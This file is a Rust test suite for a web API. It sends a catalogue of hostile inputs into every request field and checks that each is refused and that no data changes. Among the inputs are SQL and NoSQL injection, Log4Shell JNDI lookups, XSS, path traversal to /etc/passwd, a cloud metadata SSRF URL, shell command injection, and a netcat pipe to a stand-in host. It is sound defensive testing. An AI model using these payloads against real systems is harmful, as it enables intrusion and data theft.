//! Hostile values in every field of every body.

use std::rc::Rc;

use serde_json::{Value, json};

use super::{BodyRoute, MARK, NUMBER_MARK, Tally, body_routes, db_rows};
use crate::support::App;
use crate::support::callers::together;

/// What kind of fault a value is where the contract wants text.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Kind {
    /// Visible text: outside most alphabets; a registered text (name, description, instruction) may hold it.
    Visible,
    /// Characters that nobody sees.
    Hidden,
    /// Not in normalisation form C.
    NotNfc,
    /// Longer than every field.
    Long,
    /// No text at all.
    Typed,
    Null,
}

fn hazards() -> Vec<(Kind, Value)> {
    let visible = [
        "'; DROP TABLE referrals; --",
        "' OR '1'='1",
        "1) UNION SELECT key_hash FROM api_keys--",
        "$1",
        "%s%n%x",
        "{{7*7}}",
        "${jndi:ldap://x.example/a}",
        "<%= 7*7 %>",
        "#{7*7}",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://x.example\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "javascript:alert(1)",
        "; cat /etc/passwd",
        "`id`",
        "$(id)",
        "| nc x.example 1",
        "\u{1F600}\u{1F468}\u{1F3FD}",
        "Ω≈ç√∫˜µ≤≥÷",
        "田中さんにあげて下さい",
        "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
        "إختبار النص",
        "ﷺﷺﷺ",
        "İıŞşĞğ",
        "NULL",
        "Undefined",
        "-0.0E+1",
        "2026-02-30T25:61:61Z",
        "00000000-0000-0000-0000-00000000000G",
        "\\u0000",
        "%00%0d%0a",
        "a b c",
        "*)(uid=*))(|(uid=*",
        "{\"$gt\": \"\"}",
        "[object Object]",
    ];
    let hidden = [
        "\0",
        "a\0b",
        "\u{1}\u{2}\u{1b}[31m",
        "\r\nX-Injected: 1",
        "\u{7f}",
        "\u{85}",
        "\u{200b}",
        "\u{200d}",
        "\u{feff}",
        "\u{202e}fdp.exe",
        "\u{2066}x\u{2069}",
        "\u{ad}",
        "\u{e0041}",
        "\u{e000}",
        "\u{ffff}",
        "\u{fffd}",
        "\u{180e}",
        "\u{2028}",
    ];
    let mut all: Vec<(Kind, Value)> = Vec::new();
    all.extend(visible.map(|text| (Kind::Visible, json!(format!("{text}{MARK}")))));
    all.extend(hidden.map(|text| (Kind::Hidden, json!(format!("{MARK}{text}")))));
    all.extend(["e\u{301}", "\u{212b}"].map(|text| (Kind::NotNfc, json!(format!("{text}{MARK}")))));
    all.push((Kind::Long, json!(MARK.repeat(4_000))));
    all.push((Kind::Long, json!(format!("{MARK}{}", "\u{1F600}".repeat(4_000)))));
    let number: u64 = NUMBER_MARK.parse().unwrap();
    all.extend(
        [
            json!(number),
            json!(-4_242_424_242_i64),
            json!(0.424_242_42),
            json!(1.424_242_42e300),
            json!(u64::MAX),
            json!(true),
            json!(false),
            json!([]),
            json!([MARK]),
            json!([null]),
            json!({}),
            json!({MARK: 1}),
            json!({"$ne": null}),
        ]
        .map(|value| (Kind::Typed, value)),
    );
    all.push((Kind::Null, Value::Null));
    all
}

/// The fault codes that may answer; `None`: the contract takes the value, and the request fails for another reason.
fn expected(kind: Kind, schema: &Value, value: &Value) -> Vec<Option<&'static str>> {
    let is_choice = schema["enum"].is_array();
    let is_draft = schema["x-multiline"] == "crlf";
    match (kind, schema["type"].as_str().unwrap()) {
        (Kind::Null, _) if schema["nullable"] == true => vec![None],
        (Kind::Null, _) => vec![Some("null_not_allowed")],
        (_, "string") if is_choice && value.is_string() => vec![Some("unknown_value")],
        // A draft may end its lines as it likes, and be long.
        (Kind::Hidden, "string") if is_draft && value.as_str().unwrap().contains('\r') => vec![None],
        (Kind::Long, "string") if is_draft => vec![None],
        (Kind::Hidden, "string") => vec![Some("forbidden_character")],
        (Kind::NotNfc, "string") => vec![Some("not_normalized")],
        (Kind::Long, "string") => vec![Some("too_long"), Some("bad_format")],
        (Kind::Visible, "string") if fits(schema, value) => vec![None, Some("not_normalized"), Some("forbidden_character")],
        (Kind::Visible, "string") => {
            vec![Some("bad_format"), Some("too_long"), Some("too_short"), Some("not_normalized"), Some("forbidden_character")]
        }
        (Kind::Typed, "integer") if value.as_i64().is_some_and(|number| is_within(schema, number)) => vec![None],
        (Kind::Typed, "integer") if value.is_i64() || value.is_u64() => vec![Some("out_of_range")],
        (Kind::Typed, "integer") if value.is_f64() => vec![Some("out_of_range"), Some("wrong_type")],
        (Kind::Typed, "boolean") if value.is_boolean() => vec![None],
        (Kind::Typed, "array") if value == &json!([]) && schema["minItems"].is_null() => vec![None],
        (Kind::Typed, "array") if value == &json!([MARK]) && schema["items"]["$ref"] == "#/components/schemas/Code" => vec![None],
        (Kind::Typed, "array") if value.is_array() => {
            vec![Some("too_few_items"), Some("unknown_value"), Some("null_not_allowed"), Some("too_short"), Some("wrong_type")]
        }
        (Kind::Typed, "object") if value.is_object() => {
            vec![Some("missing_field"), Some("unknown_field"), Some("sensitive_field"), Some("inconsistent")]
        }
        _ => vec![Some("wrong_type")],
    }
}

fn is_within(schema: &Value, number: i64) -> bool {
    let bound = |name: &str, otherwise| schema[name].as_i64().unwrap_or(otherwise);
    (bound("minimum", i64::MIN)..=bound("maximum", i64::MAX)).contains(&number)
}

/// Whether the field's own pattern lets the text through: some alphabets hold what is hostile elsewhere.
fn fits(schema: &Value, value: &Value) -> bool {
    let pattern = schema["pattern"].as_str().map(|pattern| regex::Regex::new(pattern).unwrap());
    matches!(schema["format"].as_str(), None | Some("uri"))
        && pattern.is_none_or(|pattern| pattern.is_match(value.as_str().unwrap()))
}

fn with(body: &Value, pointer: &str, value: &Value) -> Value {
    let mut body = body.clone();
    let parts: Vec<&str> = pointer.split('/').skip(1).collect();
    match parts.as_slice() {
        [name] => body[*name] = value.clone(),
        [parent, name] => body[*parent] = json!({*name: value}),
        _ => panic!("no body of the contract nests deeper: {pointer}"),
    }
    body
}

/// Operations that are attacked at the same time.
const AT_ONCE: usize = 16;

async fn attack(route: BodyRoute, tally: Rc<Tally>, hazards: Rc<Vec<(Kind, Value)>>) {
    for (pointer, schema) in &route.fields {
        for (kind, value) in hazards.iter() {
            let what = format!("{} {pointer} {kind:?} {value}", route.name);
            let answer = route.send(with(&route.harmless, pointer, value).to_string()).await;
            tally.check(&what, &answer);
            let faults = answer.body["errors"].as_array().cloned().unwrap_or_default();
            let here: Vec<&str> = faults
                .iter()
                .filter(|fault| {
                    fault["pointer"].as_str().is_some_and(|place| place == pointer || place.starts_with(&format!("{pointer}/")))
                })
                .filter_map(|fault| fault["code"].as_str())
                .collect();
            let expected = expected(*kind, schema, value);
            match here.first() {
                None => assert!(expected.contains(&None), "{what}: not refused at its place: {}", answer.text),
                Some(code) => {
                    // A value that the contract takes may still contradict another, name nothing, or be open to nobody.
                    // Prose and disguise are told as what they are.
                    let is_content = *code == "sensitive_content" && value.is_string();
                    let taken = expected.contains(&None)
                        && matches!(
                            *code,
                            "inconsistent" | "unknown_reference" | "missing_field" | "address_not_allowed" | "not_approved"
                        );
                    assert!(taken || is_content || expected.contains(&Some(*code)), "{what}: {code}, {expected:?}");
                }
            }
        }
    }
}

#[actix_web::test]
async fn a_hostile_value_in_any_field_is_refused_at_its_place_and_changes_nothing() {
    let app = App::start().await;
    let mut routes = body_routes(&app).await;
    let before = db_rows(&app);
    let (tally, hazards) = (Rc::new(Tally::default()), Rc::new(hazards()));
    let fields: usize = routes.iter().map(|route| route.fields.len()).sum();
    let (values, operations) = (hazards.len(), routes.len());
    // A few operations at once: this asks about values, and not about load.
    while !routes.is_empty() {
        let some: Vec<BodyRoute> = routes.drain(..routes.len().min(AT_ONCE)).collect();
        together(some.into_iter().map(|route| attack(route, Rc::clone(&tally), Rc::clone(&hazards)))).await;
    }
    assert_eq!(db_rows(&app), before);
    println!("{}", tally.line(&format!("{values} hazards × {fields} fields of {operations} operations")));
}
